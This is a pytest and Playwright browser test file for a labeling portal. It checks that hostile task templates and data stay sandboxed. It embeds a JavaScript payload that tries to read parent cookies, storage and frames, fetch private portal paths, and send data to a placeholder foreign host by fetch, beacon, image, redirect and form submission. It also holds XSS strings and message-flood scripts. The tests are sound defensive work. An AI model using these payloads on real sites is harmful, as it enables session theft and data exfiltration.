"""Templates and data that mean harm, in a real browser."""

import csv
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from labelwright_local.engine.settings import JobSettings
from labelwright_local.engine.spec import JobSpec
from labelwright_local.handlers.deployed import DeployedHandlers
from labelwright_local.http.listening import LOOPBACK
from labelwright_local.portal.app import requester_key
from labelwright_local.simulated.browser import chromium
from tests.local.portal.browsers import elsewhere
from tests.local.portal.portals import KEY, Portal, portal
from tests.local.portal.served import served

pytestmark = pytest.mark.browser

#: Tries everything, and reports what it got; OTHER and FOREIGN are put in by the tests.
HOSTILE = """<script>
const attempts = {
  parent: () => parent.document.cookie,
  top: () => top.document.body.innerHTML,
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  databases: () => indexedDB.open("x") && "open",
  inner: () => { const frame = document.body.appendChild(document.createElement("iframe"));
    return [frame.contentWindow.document.cookie, frame.contentWindow.localStorage.length]; },
  bare: () => { delete window.localStorage; return localStorage.length; },
  borrowed: () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document),
  caches: () => caches.keys(),
  frames: () => parent.frames[0].document.body.innerHTML && parent.location.href,
};
const paths = ["/", "OTHER", "OTHER/page", "/requester", "/requester/objects/0", "/events",
  "/requester/output.manifest", "/s3/labelwright-local/output/birds/labelwright/labelwright.sqlite3"];
async function read(path, options) {
  const response = await fetch(path, {credentials: "include", ...options});
  return `${response.status} ${(await response.text()).slice(0, 40)}`;
}
(async () => {
  const got = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { got[name] = String(await attempt()); } catch (error) { got[name] = null; }
  }
  for (const path of paths) {
    try { got[path] = await read(path); } catch (error) { got[path] = null; }
  }
  const body = JSON.stringify({token: "h", answer: {bird: {label: "falcon"}}});
  try { got.submit = await read("OTHER/answer", {method: "POST", body}); } catch (error) { got.submit = null; }
  fetch("OTHER/answer", {method: "POST", body, mode: "no-cors", credentials: "include"}).catch(() => 0);
  fetch("FOREIGN/fetch", {mode: "no-cors"}).catch(() => 0);
  navigator.sendBeacon("FOREIGN/beacon", "1");
  new Image().src = "FOREIGN/image";
  setTimeout(() => parent.postMessage({labelwright: 1, type: "submit", answer: {got}}, "*"), 300);
})();
</script>
"""  # noqa: E501


class Foreign:
    """Another server of this machine, which notes every request that reaches it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        noted = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                noted.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: object) -> None:
                """Print nothing."""

        self._server = ThreadingHTTPServer((LOOPBACK, 0), Handler)
        self.address = f"http://{LOOPBACK}:{self._server.server_port}"

    def __enter__(self) -> "Foreign":
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Open Chromium."""
    with chromium() as opened:
        yield opened


def test_a_hostile_template_reaches_nothing_of_the_portal(tmp_path: Path, browser: Browser) -> None:
    """No cookie, no storage, no page, no other task, no other server; its own answer is all."""
    lines = [{"source": "a"}]
    with Foreign() as foreign, portal(tmp_path, lines, workers=2) as job, served(job) as server:
        other = job.worker("Bob").next()
        hostile = HOSTILE.replace("OTHER", other).replace("FOREIGN", foreign.address)
        server.use(hostile)
        page = browser.new_context().new_page()
        page.goto(f"{server.address}/requester?key={requester_key(KEY)}")
        server.sign_in(page, "Eve")
        page.get_by_role("button", name="Start").click()
        expect(page.get_by_role("heading", name="No task for you")).to_be_visible()
        page.wait_for_timeout(300)
        assert page.url.startswith(server.address)
        assert foreign.requests == []
        detail = job.engine.object("0")
        assert detail is not None
        [got] = [answer.content["got"] for answer in detail.answers]
        # What it keeps itself is in its memory: nothing of the portal is there.
        own = {name: got.pop(name) for name in ("cookies", "storage", "session")}
        assert own == {"cookies": "", "storage": "0", "session": "0"}
        found = {name: value for name, value in got.items() if value is not None}
        assert found == {}
        assert set(got) >= {"parent", "inner", "bare", "borrowed", "submit", "/requester", other}
        assert job.engine.progress().answers == 1


def test_a_hostile_template_reaches_nothing_of_another_job_of_its_workspace(
    tmp_path: Path, browser: Browser
) -> None:
    """Though the worker, the requester, and a worker of the same name are signed in there, too."""
    lines = [{"source": "a"}]
    with (
        portal(tmp_path, lines, workers=2) as job,
        portal(tmp_path, lines, workers=2, name="owls") as victim,
        served(job) as server,
        served(victim) as other,
    ):
        task = victim.worker("Eve").next()
        paths = ("OTHER", "/requester", "/events")
        hostile = HOSTILE.replace("FOREIGN", other.address)
        for path in paths:
            hostile = hostile.replace(f'"{path}', f'"{other.address}{path}')
        server.use(hostile.replace("OTHER", task))
        page = browser.new_context().new_page()
        for place, key in ((other, victim.key), (server, job.key)):
            page.goto(f"{place.address}/requester?key={requester_key(key)}")
            place.sign_in(page, "Eve")
        before = victim.engine.progress()
        page.get_by_role("button", name="Start").click()
        expect(page.get_by_role("heading", name="No task for you")).to_be_visible()
        page.wait_for_timeout(300)
        detail = job.engine.object("0")
        assert detail is not None
        [got] = [answer.content["got"] for answer in detail.answers]
        assert f"{other.address}/requester" in got
        assert f"{other.address}{task}" in got
        found = {name: value for name, value in got.items() if value is not None}
        assert found == {"cookies": "", "storage": "0", "session": "0"}
        assert victim.engine.progress() == before


def test_a_hostile_cell_of_a_batch_reaches_nothing(tmp_path: Path, browser: Browser) -> None:
    """It is put into the page as it stands, and the page into its frame."""
    manifest = tmp_path / "batch.csv"
    settings = JobSettings(workers_per_object=1)
    template = "<form id='mturk_form'>${evil}</form>"
    with Foreign() as foreign:
        hostile = HOSTILE.replace("OTHER", "/tasks/1").replace("FOREIGN", foreign.address)
        with manifest.open("w", newline="") as file:
            csv.writer(file).writerows([["evil"], [hostile]])
        spec = JobSpec("b", "b", manifest, None, settings=settings, template=template.encode())
        opened = Portal(tmp_path, template).opened(spec, DeployedHandlers)
        with opened as job, served(job) as server:
            page = browser.new_context().new_page()
            server.sign_in(page, "Eve")
            page.get_by_role("button", name="Start").click()
            expect(page.get_by_role("heading", name="No task for you")).to_be_visible()
            detail = job.engine.object("0")
            assert detail is not None
            [got] = [answer.content["got"] for answer in detail.answers]
            found = {name: value for name, value in got.items() if value is not None}
            assert found == {"cookies": "", "storage": "0", "session": "0"}
            assert foreign.requests == []
            response = job.requester().get("/requester/objects/0")
            assert "<script>\nconst attempts" not in response.text


def test_a_page_that_goes_elsewhere_takes_nothing_along(tmp_path: Path, browser: Browser) -> None:
    """Neither by a redirect of its own nor by a link; the bar of the portal stays."""
    ways = [
        '<meta http-equiv="refresh" content="0; url=FOREIGN/refresh">',
        '<script>location = "FOREIGN/location?leak"</script>',
        '<a id="go" href="FOREIGN/link" target="_top">x</a><script>go.click()</script>',
        '<iframe src="FOREIGN/frame"></iframe>',
        '<script>top.location = "FOREIGN/top"</script>',
        '<form id="out" action="FOREIGN/form" method="post"><input name="leak" value="1"></form>'
        "<script>out.submit()</script>",
        '<form id="out" action="FOREIGN/get" target="_top"><input name="leak" value="1"></form>'
        "<script>out.submit()</script>",
        '<base href="FOREIGN/"><script src="base.js"></script>',
    ]
    with Foreign() as foreign, portal(tmp_path, workers=9) as job, served(job) as server:
        for number, way in enumerate(ways):
            server.use(way.replace("FOREIGN", foreign.address))
            page = browser.new_context().new_page()
            server.sign_in(page, f"Eve {number}")
            page.get_by_role("button", name="Start").click()
            page.wait_for_url("**/tasks/*")
            page.wait_for_timeout(300)
            expect(page.get_by_role("button", name="Decline")).to_be_visible()
            assert page.url.startswith(server.address)
            page.context.close()
        assert foreign.requests == []
        browser.new_context().new_page().goto(f"{foreign.address}/reached")
        assert foreign.requests[0] == "/reached"


def test_messages_that_are_none_are_not_heeded(tmp_path: Path, browser: Browser) -> None:
    """Neither malformed ones of the page, nor well-formed ones of another window."""
    template = """<script>
      const say = (message) => parent.postMessage(message, "*");
      for (const answer of [null, "text", [1], undefined]) say({labelwright: 1, type: "submit", answer});
      say({labelwright: 2, type: "submit", answer: {}}); say("submit"); say(null);
      say({labelwright: 1, type: "draft", draft: "x".repeat(4194305)});
      say({labelwright: 1, type: "problem", message: "<img src=x onerror=alert(1)>".repeat(99)});
    </script>
    <iframe srcdoc="<script>top.postMessage({labelwright:1,type:'submit',answer:{}},'*')</script>">
    </iframe>"""  # noqa: E501
    with portal(tmp_path) as job, served(job) as server:
        server.use(template)
        page = browser.new_context().new_page()
        server.sign_in(page, "Ada")
        page.get_by_role("button", name="Start").click()
        expect(page.get_by_role("alert")).to_contain_text("<img src=x")
        page.wait_for_timeout(1500)
        assert job.engine.progress().answers == 0
        assert page.locator("[role=alert] img").count() == 0


def test_hostile_data_is_text_in_every_view(tmp_path: Path, browser: Browser) -> None:
    """Of the worker and of the requester, and a huge one breaks neither."""
    evil = (
        "<script>document.title = 'hacked'</script><img src=x onerror=\"document.title='hacked'\">"
    )
    lines = [{"source": evil}, {"source": evil * 500}]
    with portal(tmp_path, lines) as job, served(job) as server:
        page = browser.new_context().new_page()
        server.sign_in(page, "Ada")
        for _ in lines:
            page.goto(server.address)
            page.get_by_role("button", name=re.compile("Start|Resume")).click()
            page.wait_for_url("**/tasks/*")
            frame = page.frame_locator("#page")
            assert evil in (frame.get_by_role("heading").inner_text())
            task = page.url
            frame.get_by_label("Owl").check()
            frame.get_by_role("button", name="Submit").click()
            elsewhere(page, task)
        page.goto(f"{server.address}/requester?key={requester_key(KEY)}")
        for path in ("/requester/objects/0", "/requester/objects/1"):
            page.goto(server.address + path)
            expect(page.get_by_role("region", name="Line of the manifest")).to_contain_text(
                "<script>"
            )
            assert page.title() != "hacked"


def test_a_page_that_keeps_all_it_can_does_not_flood_the_server(
    tmp_path: Path, browser: Browser
) -> None:
    """However many and long drafts it sends: one is kept, and they are saved at a measured pace."""
    template = """<script>
      let number = 0;
      const large = "x".repeat(4_000_000);
      setInterval(() => parent.postMessage({labelwright: 1, type: "draft", draft: large + number++}, "*"), 500);
    </script>"""  # noqa: E501
    with portal(tmp_path) as job, served(job) as server:
        server.use(template)
        page = browser.new_context().new_page()
        sizes: list[int] = []
        page.on(
            "request",
            lambda request: sizes.append(1) if request.url.endswith("/draft") else None,
        )
        server.sign_in(page, "Eve")
        page.get_by_role("button", name="Start").click()
        expect(page.get_by_text("Draft saved")).to_be_visible(timeout=20_000)
        page.wait_for_timeout(3_000)
        assert len(sizes) <= 3
